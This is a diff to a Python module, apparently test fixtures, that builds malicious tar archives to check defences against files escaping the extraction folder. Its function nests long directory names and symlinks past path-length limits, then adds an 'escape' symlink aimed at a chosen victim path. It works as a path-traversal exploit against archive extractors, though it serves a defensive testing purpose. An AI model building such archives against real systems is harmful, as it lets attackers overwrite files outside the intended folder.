@@ -1,7 +1,6 @@
 """Archives that try to make files outside of the folder that they are unpacked to."""
 
 import io
-import os
 import tarfile
 
 
@@ -12,9 +11,9 @@ def nested_past_the_longest_path(victim: str) -> bytes:
     name, path, letters = "d" * 247, "", "abcdefghijklmnop"
     with tarfile.open(fileobj=stream, mode="w:gz") as archive:
         for letter in letters:
-            archive.addfile(_member(os.path.join(path, name), tarfile.DIRTYPE))
-            archive.addfile(_member(os.path.join(path, letter), tarfile.SYMTYPE, name))
-            path = os.path.join(path, name)
+            archive.addfile(_member(f"{path}{name}", tarfile.DIRTYPE))
+            archive.addfile(_member(f"{path}{letter}", tarfile.SYMTYPE, name))
+            path += f"{name}/"
         link = "/".join(letters) + "/" + "l" * 254
         archive.addfile(_member(link, tarfile.SYMTYPE, "../" * len(letters)))
         archive.addfile(_member("escape", tarfile.SYMTYPE, f"{link}/../{victim}"))
